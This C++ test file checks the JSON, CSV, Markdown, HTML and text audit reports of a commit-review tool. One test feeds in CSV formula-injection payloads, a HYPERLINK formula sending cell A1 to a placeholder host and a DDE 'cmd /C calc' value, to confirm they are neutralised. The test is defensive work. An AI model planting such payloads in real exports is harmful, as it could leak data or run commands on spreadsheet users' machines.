// Tests of the audit renderers: JSON strings stay valid for any bytes, CSV quoting follows
// RFC 4180 and neutralises formulas, the summary JSON carries the schema id and shares, every
// output names its provenance, people are grouped by roster person, text tables stay aligned.
#include <catch2/catch.hpp>

#include <algorithm>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "audit/audit.h"
#include "detect/markers.h"
#include "report/audit_formats.h"
#include "report/audit_html.h"
#include "support/fixtures.h"

using trailgate::audit::AuditRecord;
using trailgate::audit::AuditSummary;
namespace report = trailgate::report;
using json = nlohmann::json;

using trailgate::testing::parse_csv;

namespace {

std::string js(std::string_view s) {
  std::string out;
  report::append_json_string(out, s);
  return out;
}

}  // namespace

TEST_CASE("report::append_json_string", "[report][audit]") {
  CHECK(js("plain") == "\"plain\"");
  CHECK(js("q\"b\\n\n\t\x01\x7f") == "\"q\\\"b\\\\n\\n\\t\\u0001\\u007f\"");
  CHECK(js("caf\xc3\xa9 \xf0\x9f\xa4\x96") == "\"caf\xc3\xa9 \xf0\x9f\xa4\x96\"");
  SECTION("invalid UTF-8 becomes U+FFFD and the result parses") {
    for (std::string bad : {std::string("\xff"), std::string("\xc3"), std::string("\xe0\x80\x80"),
                            std::string("\xed\xa0\x80"), std::string("\xf4\x90\x80\x80"),
                            std::string("a\0b", 3), std::string("\xc0\xaf")}) {
      std::string out = js(bad);
      CHECK_NOTHROW(json::parse(out));
    }
    CHECK(json::parse(js("caf\xe9")) == "caf\xef\xbf\xbd");
  }
}

TEST_CASE("report::render_record_json and csv", "[report][audit]") {
  AuditRecord record;
  trailgate::CommitEvaluation& r = record.evaluation;
  r.id = std::string(40, 'a');
  r.ref = "refs/heads/main";
  r.subject = "Say \"hi\", then\r\nleave \xff";
  r.author = {"A", "a@x", 0, 0};
  r.committer = r.author;
  r.trailers.push_back({"Reviewed-by", "B <b@x>"});
  r.reviews.claims.push_back({"Reviewed-by: B <b@x>", "b@x", "",
                              trailgate::review::ClaimStatus::not_on_roster, "not on the roster"});
  r.detections.push_back({"m.id", "Tool", "trailer \"x\""});
  r.verdict = trailgate::Verdict::unverified;
  record.lines_changed = 12;  // never in a per-commit record
  std::string line;
  report::render_record_json(record, line);
  json j = json::parse(line);
  CHECK(j["schema"] == "trailgate.commit/3");
  CHECK(j["ref"] == "refs/heads/main");
  CHECK(j["trailers"][0]["value"] == "B <b@x>");
  CHECK(j["reviews"][0]["reviewer"] == json({{"name", "B"}, {"email", "b@x"}}));
  CHECK(j["reviews"][0]["verified"] == false);
  CHECK(j["reviews"][0]["status"] == "not-on-roster");
  CHECK(j["ai_assisted"] == true);
  CHECK(j["tools"] == json::array({"Tool"}));
  CHECK(j["lines_changed"].is_null());
  CHECK(j["author"]["date"] == "1970-01-01T00:00:00+00:00");
  CHECK(line.find('\n') == std::string::npos);

  std::string row;
  report::render_record_csv(record, "", row);
  CHECK(row.substr(row.size() - 2) == "\r\n");
  CHECK(row.find("\"Say \"\"hi\"\", then\r\nleave \xef\xbf\xbd\"") != std::string::npos);
}

TEST_CASE("report::render_summary_json", "[report][audit]") {
  AuditSummary s;
  AuditRecord r;
  r.evaluation.id = std::string(40, 'a');
  r.evaluation.author.email = "a@x";
  r.evaluation.verdict = trailgate::Verdict::unreviewed;
  r.evaluation.detections.push_back({"m", "Tool", "e"});
  r.lines_changed = 3;
  s.add(r);
  s.finish();
  json j = json::parse(report::render_summary_json(s));
  CHECK(j["schema"] == "trailgate.audit/2");
  CHECK(j["total"]["commits"] == 1);
  CHECK(j["total"]["ai_share"] == 1.0);
  CHECK(j["total"]["verified_share"] == 0.0);
  CHECK(j["largest_gaps"][0]["lines_changed"] == 3);
  CHECK(j["since"].is_null());
  CHECK_THAT(report::render_audit_md(s), Catch::Contains("| violations | 1 | 100.0% of commits |"));
  CHECK_THAT(report::render_audit_text(s, {r}, 4), Catch::Contains("and 4 more"));
}

namespace {

// An AI-assisted record whose markers name `models` ("" for a marker that names none); an agent's
// commit when `agent`.
AuditRecord ai_record(char id, bool agent, std::vector<std::string> models,
                      trailgate::Verdict verdict) {
  AuditRecord r;
  r.evaluation.id = std::string(40, id);
  r.evaluation.author = {"Dev", "dev@example.com", 1'770'000'000, 0};
  r.evaluation.committer = r.evaluation.author;
  for (const auto& model : models) {
    trailgate::detect::Detection d{"m." + model, "Tool", "evidence"};
    d.model = model;
    if (agent)
      d.marker_class = trailgate::detect::MarkerClass::agent;
    r.evaluation.detections.push_back(d);
  }
  r.evaluation.agent_authored = agent;
  r.evaluation.verdict = verdict;
  r.evaluation.author_level = "junior";
  r.evaluation.responsible = {
      {trailgate::ResponsibleRole::author, "Dev", "dev@example.com", "Dev", false, "junior"}};
  return r;
}

}  // namespace

TEST_CASE("audit summaries: agent-authored and assisted commits, by model, and the catalogue",
          "[report][audit]") {
  using trailgate::Verdict;
  AuditSummary s;
  s.verification = "signature";
  // Two agent commits (one names two models, one none), three assisted ones, one human commit.
  s.add(ai_record('a', true, {"claude-opus-4-5", "gpt-5-codex"}, Verdict::unverified));
  s.add(ai_record('b', true, {""}, Verdict::ok));
  s.add(ai_record('c', false, {"claude-opus-4-5", "claude-opus-4-5"}, Verdict::ok));
  s.add(ai_record('d', false, {"", "gpt-5-codex"}, Verdict::unreviewed));
  s.add(ai_record('e', false, {""}, Verdict::below_level));
  AuditRecord human;
  human.evaluation.id = std::string(40, 'f');
  human.evaluation.verdict = Verdict::not_ai;
  s.add(human);
  s.finish();
  const std::string catalogue(trailgate::detect::catalogue_version());

  SECTION("json") {
    const json j = json::parse(report::render_summary_json(s));
    CHECK(j["catalogue_version"] == catalogue);
    CHECK(j["total"]["commits"] == 6);
    CHECK(j["total"]["ai_assisted"] == 5);
    CHECK(j["total"]["agent_authored"] == 2);
    CHECK(j["total"]["assisted"] == 3);
    REQUIRE(j["by_model"].size() == 3);  // in key order
    CHECK(j["by_model"][0]["model"] == "claude-opus-4-5");
    CHECK(j["by_model"][0]["commits"] == 2);  // once per commit
    CHECK(j["by_model"][0]["ai_assisted"] == 2);
    CHECK(j["by_model"][0]["agent_authored"] == 1);
    CHECK(j["by_model"][0]["assisted"] == 1);
    CHECK(j["by_model"][0]["ai_verified"] == 1);
    CHECK(j["by_model"][0]["violations"] == 1);
    CHECK(j["by_model"][1]["model"] == "gpt-5-codex");
    CHECK(j["by_model"][1]["commits"] == 2);
    CHECK(j["by_model"][1]["agent_authored"] == 1);
    CHECK(j["by_model"][1]["violations"] == 2);
    // "unknown": no marker of the commit names a model (d names one, so it is not here).
    CHECK(j["by_model"][2]["model"] == "unknown");
    CHECK(j["by_model"][2]["commits"] == 2);
    CHECK(j["by_model"][2]["agent_authored"] == 1);
    CHECK(j["by_model"][2]["ai_verified"] == 1);
    // A tally elsewhere carries the same counts.
    REQUIRE(j["by_author"].size() == 2);
    CHECK(j["by_author"][1]["author"] == "dev@example.com");
    CHECK(j["by_author"][1]["agent_authored"] == 2);
    CHECK(j["by_author"][1]["assisted"] == 3);
  }
  SECTION("text") {
    const std::string text =
        report::render_audit_text(s, {ai_record('a', true, {"x"}, Verdict::unverified)}, 0);
    CHECK_THAT(text,
               Catch::Contains("(verification: signature, marker catalogue " + catalogue + ")"));
    CHECK_THAT(text, Catch::Contains("    agent-authored          2  40.0% of AI-assisted"));
    CHECK_THAT(text, Catch::Contains("    assisted                3  60.0% of AI-assisted"));
    CHECK_THAT(text, Catch::Contains("by model (AI-assisted commits"));
    CHECK_THAT(text, Catch::Contains("  claude-opus-4-5        2        2 "));
    CHECK_THAT(text, Catch::Contains("  unknown                2        2 "));
    // A violation shows its author level and responsible humans.
    CHECK_THAT(text,
               Catch::Contains("      author level: junior; agent-authored (an AI agent wrote "
                               "it on its own); responsible: Dev <dev@example.com> (author, "
                               "junior)\n"));
  }
  SECTION("md") {
    const std::string md = report::render_audit_md(s);
    CHECK_THAT(md, Catch::Contains("Marker catalogue: " + catalogue + "."));
    CHECK_THAT(md, Catch::Contains("| agent-authored | 2 | 40.0% of AI-assisted |"));
    CHECK_THAT(md, Catch::Contains("| assisted | 3 | 60.0% of AI-assisted |"));
    CHECK_THAT(md, Catch::Contains("## By model"));
    CHECK_THAT(md, Catch::Contains("| gpt-5-codex | 2 | 2 | 100.0% | 0 | 0.0% | 2 |"));
    CHECK_THAT(md, Catch::Contains("| unknown | 2 | 2 | 100.0% | 1 | 50.0% | 1 |"));
  }
  SECTION("html") {
    const std::string page =
        report::render_audit_html(s, {ai_record('a', true, {"x"}, Verdict::unverified)});
    CHECK_THAT(
        page, Catch::Contains("Marker catalogue: <span id=\"catalogue\">" + catalogue + "</span>"));
    CHECK_THAT(page, Catch::Contains("<div class=\"card\" id=\"total-agent\"><div class=\"v\">2"
                                     "</div>"));
    CHECK_THAT(page, Catch::Contains("2 of 5 AI-assisted commits; 3 assisted"));
    CHECK_THAT(page, Catch::Contains("<td>claude-opus-4-5</td><td class=\"num\">2</td>"
                                     "<td class=\"num\">1</td><td class=\"num\">1</td>"
                                     "<td class=\"num\">50.0%</td><td class=\"num\">1</td>"));
    CHECK_THAT(page, Catch::Contains("<td>unknown</td>"));
    CHECK_THAT(page, Catch::Contains("<div class=\"level\">level junior &middot; agent-authored"
                                     "</div>"));
  }
}

namespace {

AuditSummary provenance() {
  AuditSummary s;
  s.repository = "/srv/git/app.git";
  s.scanned = {"refs/heads/main", "refs/heads/release/1"};
  s.scanned_tips = {std::string(40, 'a'), std::string(40, 'b')};
  s.since = "2026-01-01";
  s.generated_at = "2026-12-07T15:40:00Z";
  s.trailgate_version = "trailgate 1.2.3 (git abcdef0)";
  s.policy_sha256 = std::string(64, 'c');
  s.policy_source = "/etc/trailgate/policy.toml";
  s.verification = "signature";
  return s;
}

}  // namespace

TEST_CASE("report: CSV cells that a spreadsheet would run are neutralised", "[report][audit]") {
  AuditSummary s = provenance();
  s.repository = "-repo";  // provenance cells are neutralised too
  const std::string provenance_cells = report::csv_provenance_cells(s);
  std::string csv = report::csv_header();
  const std::vector<std::string> dangerous = {"=", "+", "-", "@", "\t", "\r"};
  for (std::size_t i = 0; i < dangerous.size(); ++i) {
    AuditRecord record;
    trailgate::CommitEvaluation& r = record.evaluation;
    r.id = std::string(40, static_cast<char>('a' + i));
    r.ref = dangerous[i] + "ref";
    r.subject = dangerous[i] + "HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    r.author = {dangerous[i] + "cmd|' /C calc'!A0", dangerous[i] + "a@x.example", 0, 0};
    r.committer = {"Plain Name", "plain@x.example", 0, 0};
    r.reviews.claims.push_back({"Reviewed-by: X <" + dangerous[i] + "b@x>", dangerous[i] + "b@x",
                                "", trailgate::review::ClaimStatus::not_on_roster, "no"});
    r.verdict = trailgate::Verdict::unverified;
    report::render_record_csv(record, provenance_cells, csv);
  }
  auto rows = parse_csv(csv);
  REQUIRE(rows.size() == dangerous.size() + 1);
  const auto& head = rows[0];
  auto col = [&](const std::string& name) {
    auto at = std::find(head.begin(), head.end(), name);
    REQUIRE(at != head.end());
    return static_cast<std::size_t>(at - head.begin());
  };
  for (std::size_t i = 0; i < dangerous.size(); ++i) {
    const auto& row = rows[i + 1];
    INFO("leading character " << static_cast<int>(dangerous[i][0]));
    REQUIRE(row.size() == head.size());
    CHECK(row[col("subject")] ==
          "'" + dangerous[i] + "HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
    CHECK(row[col("author_name")] == "'" + dangerous[i] + "cmd|' /C calc'!A0");
    CHECK(row[col("author_email")] == "'" + dangerous[i] + "a@x.example");
    CHECK(row[col("ref")] == "'" + dangerous[i] + "ref");
    CHECK(row[col("reviews")] == "'" + dangerous[i] + "b@x=not-on-roster");
    CHECK(row[col("committer_name")] == "Plain Name");  // others are left alone
    CHECK(row[col("audit_repository")] == "'-repo");
    // No cell of the row starts with a character a spreadsheet would evaluate.
    for (const auto& cell : row)
      if (!cell.empty())
        CHECK(std::string("=+-@\t\r").find(cell[0]) == std::string::npos);
  }
}

TEST_CASE("report: every audit output names its provenance", "[report][audit]") {
  AuditSummary s = provenance();
  s.finish();
  const std::string version(trailgate::detect::catalogue_version());
  SECTION("json summary") {
    json j = json::parse(report::render_summary_json(s));
    CHECK(j["repository"] == "/srv/git/app.git");
    CHECK(j["scanned"] == json::array({"refs/heads/main", "refs/heads/release/1"}));
    CHECK(j["scanned_tips"][1] == std::string(40, 'b'));
    CHECK(j["since"] == "2026-01-01");
    CHECK(j["until"].is_null());
    CHECK(j["generated_at"] == "2026-12-07T15:40:00Z");
    CHECK(j["trailgate_version"] == "trailgate 1.2.3 (git abcdef0)");
    CHECK(j["catalogue_version"] == version);
    CHECK(j["policy_sha256"] == std::string(64, 'c'));
  }
  SECTION("jsonl header line") {
    std::string line = report::render_header_jsonl(s);
    REQUIRE(line.back() == '\n');
    CHECK(line.find('\n') == line.size() - 1);
    json j = json::parse(line);
    CHECK(j["type"] == "header");
    CHECK(j["schema"] == "trailgate.audit/2");
    CHECK(j["repository"] == "/srv/git/app.git");
    CHECK(j["generated_at"] == "2026-12-07T15:40:00Z");
    CHECK(j["policy_sha256"] == std::string(64, 'c'));
    CHECK(j["catalogue_version"] == version);
    CHECK_FALSE(j.contains("total"));  // provenance only, no counters
  }
  SECTION("csv columns") {
    auto rows = parse_csv(report::csv_header());
    REQUIRE(rows.size() == 1);
    AuditRecord record;
    record.evaluation.id = std::string(40, 'a');
    std::string row = report::csv_header();
    report::render_record_csv(record, report::csv_provenance_cells(s), row);
    rows = parse_csv(row);
    REQUIRE(rows.size() == 2);
    REQUIRE(rows[1].size() == rows[0].size());
    std::map<std::string, std::string> cells;
    for (std::size_t i = 0; i < rows[0].size(); ++i)
      cells[rows[0][i]] = rows[1][i];
    CHECK(cells["audit_repository"] == "/srv/git/app.git");
    CHECK(cells["audit_scanned"] == "refs/heads/main refs/heads/release/1");
    CHECK(cells["audit_since"] == "2026-01-01");
    CHECK(cells["audit_until"] == "");
    CHECK(cells["audit_generated_at"] == "2026-12-07T15:40:00Z");
    CHECK(cells["audit_trailgate_version"] == "trailgate 1.2.3 (git abcdef0)");
    CHECK(cells["audit_policy_sha256"] == std::string(64, 'c'));
    CHECK(cells["catalogue_version"] == version);
  }
  SECTION("text and md") {
    for (const std::string& out :
         {report::render_audit_text(s, {}, 0), report::render_audit_md(s)}) {
      CHECK_THAT(out, Catch::Contains("/srv/git/app.git"));
      CHECK_THAT(out, Catch::Contains(std::string(40, 'b')));
      CHECK_THAT(out, Catch::Contains("2026-01-01"));
      CHECK_THAT(out, Catch::Contains("2026-12-07T15:40:00Z"));
      CHECK_THAT(out, Catch::Contains("trailgate 1.2.3 (git abcdef0)"));
      CHECK_THAT(out, Catch::Contains(version));
      CHECK_THAT(out, Catch::Contains(std::string(64, 'c')));
    }
  }
  SECTION("html") {
    std::string page = report::render_audit_html(s, {});
    CHECK_THAT(page, Catch::Contains("<dd id=\"repository\"><code>/srv/git/app.git</code></dd>"));
    CHECK_THAT(page, Catch::Contains("<code id=\"policy-sha256\">" + std::string(64, 'c')));
    CHECK_THAT(page, Catch::Contains("datetime=\"2026-12-07T15:40:00Z\""));
    CHECK_THAT(page, Catch::Contains("trailgate 1.2.3 (git abcdef0)"));
  }
}

namespace {

AuditRecord authored(char id, const std::string& email, const std::string& reviewer = "") {
  AuditRecord r;
  r.evaluation.id = std::string(40, id);
  r.evaluation.author = {"Someone", email, 1'770'000'000, 0};
  r.evaluation.committer = r.evaluation.author;
  r.evaluation.detections.push_back({"m", "Tool", "e"});
  r.evaluation.verdict = reviewer.empty() ? trailgate::Verdict::unreviewed : trailgate::Verdict::ok;
  if (!reviewer.empty())
    r.evaluation.reviews.claims.push_back({"Reviewed-by: R <" + reviewer + ">", reviewer, "R",
                                           trailgate::review::ClaimStatus::verified, ""});
  return r;
}

// The lines of `text` from the one starting with `title` to the next empty line.
std::vector<std::string> section(const std::string& text, const std::string& title) {
  std::vector<std::string> lines;
  std::istringstream in(text.substr(text.find("\n" + title) + 1));
  std::string line;
  while (std::getline(in, line) && !line.empty())
    lines.push_back(line);
  return lines;
}

}  // namespace

TEST_CASE("report: people are grouped by roster person, else by email", "[report][audit]") {
  AuditSummary s;
  s.set_roster({{"Alice Archer",
                 {"alice@example.com", "alice@users.noreply.github.com", "a.archer@corp.example",
                  "ALICE@home.example"}},
                {"Senior One", {"senior@example.com", "s1@corp.example"}}});
  s.add(authored('1', "alice@example.com"));
  s.add(authored('2', "Alice@Users.Noreply.GitHub.com"));
  s.add(authored('3', "a.archer@corp.example", "s1@corp.example"));
  s.add(authored('4', "alice@home.example", "senior@example.com"));
  s.add(authored('5', "stranger@example.com"));
  // A look-alike (Cyrillic a) is not Alice: it stays a group of its own.
  s.add(authored('6', "\xd0\xb0lice@example.com"));
  s.finish();
  REQUIRE(s.by_author.size() == 3);
  CHECK(s.by_author.at("alice@example.com").commits == 4);
  CHECK(s.by_author.at("stranger@example.com").commits == 1);
  CHECK(s.by_author.at("\xd0\xb0lice@example.com").commits == 1);
  CHECK(s.by_reviewer == std::map<std::string, std::int64_t>{{"senior@example.com", 2}});
  CHECK(s.ai_gaps_by_author.at("alice@example.com") == 2);

  json j = json::parse(report::render_summary_json(s));
  json alice;
  for (const auto& row : j["by_author"])
    if (row["author"] == "alice@example.com")
      alice = row;
  CHECK(alice["name"] == "Alice Archer");
  CHECK(alice["emails"] == json::array({"alice@example.com", "alice@users.noreply.github.com",
                                        "a.archer@corp.example", "ALICE@home.example"}));
  CHECK(alice["commits"] == 4);
  for (const auto& row : j["by_author"])
    if (row["author"] == "stranger@example.com") {
      CHECK(row["name"].is_null());
      CHECK(row["emails"] == json::array({"stranger@example.com"}));
    }
  CHECK(j["by_reviewer"][0]["name"] == "Senior One");
  CHECK(j["by_reviewer"][0]["verified_reviews"] == 2);
  CHECK(j["top_gap_authors"][0]["name"] == "Alice Archer");

  const std::string text = report::render_audit_text(s, {}, 0);
  auto by_author = section(text, "by author");
  REQUIRE(by_author.size() == 5);  // title, head, three people
  CHECK_THAT(by_author[2],
             Catch::StartsWith("  Alice Archer <alice@example.com, alice@users.noreply.github.com, "
                               "a.archer@corp.example, ALICE@home.example>"));
  CHECK_THAT(text, Catch::Contains("Senior One <senior@example.com, s1@corp.example>"));
  CHECK_THAT(report::render_audit_md(s), Catch::Contains("| Alice Archer \\<alice@example.com, "));
}

TEST_CASE("report: text tables keep their columns on long values", "[report][audit]") {
  const std::string long_email = std::string(48, 'x') + "@example.com";  // 60 characters
  REQUIRE(long_email.size() == 60);
  AuditSummary s;
  s.add(authored('1', long_email));
  s.add(authored('2', "bo@x.example"));
  s.add(authored('3', "bo@x.example"));
  s.add(authored('4', "caf\xc3\xa9@x.example"));  // a 2-byte character is one column
  s.finish();
  const std::string text = report::render_audit_text(s, {}, 0);
  auto table = section(text, "by author");
  REQUIRE(table.size() == 5);
  // The email is shown whole, and every line of the table ends in the same column.
  CHECK(text.find(long_email) != std::string::npos);
  auto columns = [](const std::string& line) {
    std::size_t n = 0;
    for (char c : line)
      n += (static_cast<unsigned char>(c) & 0xC0) != 0x80;
    return n;
  };
  for (std::size_t i = 2; i < table.size(); ++i) {
    INFO(table[i]);
    CHECK(columns(table[i]) == columns(table[1]));
  }
  SECTION("the violations list keeps its subjects in one column") {
    AuditRecord a = authored('7', long_email), b = authored('8', "bo@x.example");
    a.evaluation.subject = "long one";
    b.evaluation.subject = "short one";
    auto list = section(report::render_audit_text(s, {a, b}, 0), "violations");
    REQUIRE(list.size() == 3);
    CHECK(list[1].find("long one") == list[2].find("short one"));
    CHECK(list[1].find(long_email) != std::string::npos);
  }
  SECTION("no empty sections") {
    CHECK(text.find("by reviewer") == std::string::npos);
    CHECK(text.find("largest unreviewed") == std::string::npos);
    CHECK(text.find("top gaps: authors") != std::string::npos);  // there are gaps
  }
  SECTION("reviews are listed when there are some") {
    AuditSummary r;
    r.add(authored('5', "a@x", "reviewer-with-a-rather-long-address@example.com"));
    r.add(authored('6', "a@x", "short@x"));
    r.finish();
    auto list = section(report::render_audit_text(r, {}, 0), "verified reviews by reviewer");
    REQUIRE(list.size() == 3);
    CHECK(columns(list[1]) == columns(list[2]));
  }
}
